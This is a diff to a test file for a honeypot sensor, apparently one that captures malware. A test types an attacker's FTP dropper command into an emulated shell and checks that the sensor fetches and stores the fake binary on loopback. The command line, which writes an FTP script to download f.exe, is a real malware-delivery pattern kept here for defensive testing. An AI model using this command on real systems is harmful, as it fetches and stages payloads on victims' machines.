@@ -6,6 +6,7 @@ shell it asks for is then spoken to on loopback.  The public address in
 the connect-back shellcode is pointed at a local listener with
 download.connect_to; nothing leaves the test's network namespace.
 """
+import hashlib
 import socket
 import subprocess
 import threading
@@ -266,14 +267,37 @@ def test_shells_per_sensor_capped(sundew):
 
 
 @needs_corpus(BIND)
-def test_ftp_script_typed_in_the_shell_is_offered(sundew):
-    d = sundew()
-    exp, s, session = open_shell(d)
-    line = ("echo open 0.0.0.0 8884 > o & echo user 1 1 >> o & "
-            "echo get f.exe >> o & ftp -n -s:o")
-    assert run(s, line) == b""
-    offers = d.wait_events("sundew.download.offer", session=session)
-    s.close()
-    exp.close()
-    d.stop()
-    assert [o["url"] for o in offers] == ["ftp://1:1@127.0.0.1:8884/f.exe"]
+def test_ftp_script_typed_in_the_shell_is_fetched_and_stored(sundew, tmp_path):
+    from test_capture import FtpServer
+
+    body = b"MZ" + bytes(range(256)) * 64
+    root = tmp_path / "ftp"
+    root.mkdir()
+    (root / "f.exe").write_bytes(body)
+    ftp = FtpServer(root, 8884)
+    try:
+        # The shell's peer is the attacker, 127.0.0.1: "open 0.0.0.0"
+        # means it, and the rule sends it to the test's server.
+        d = sundew(["download.connect_to=127.0.0.1:8884:127.0.0.1:8884"])
+        exp, s, session = open_shell(d)
+        line = ("echo open 0.0.0.0 8884 > o & echo user 1 1 >> o & "
+                "echo get f.exe >> o & ftp -n -s:o")
+        assert run(s, line) == b""
+        # The same script again in the same shell: offered once.
+        assert run(s, "ftp -n -s:o") == b""
+        stored = d.wait_events("sundew.file.stored", session=session,
+                               kind="binary", timeout=30)
+        s.close()
+        exp.close()
+        d.stop()
+    finally:
+        ftp.close()
+    assert ftp.retrieved == ["f.exe"]
+    url = "ftp://1:1@127.0.0.1:8884/f.exe"
+    assert [o["url"] for o in d.events("sundew.download.offer",
+                                       session=session)] == [url]
+    assert [(c["url"], c["size"]) for c in d.events(
+        "sundew.download.complete", session=session)] == [(url, len(body))]
+    sha = hashlib.sha256(body).hexdigest()
+    assert [e["sha256"] for e in stored] == [sha]
+    assert (d.data / "binaries" / sha).read_bytes() == body
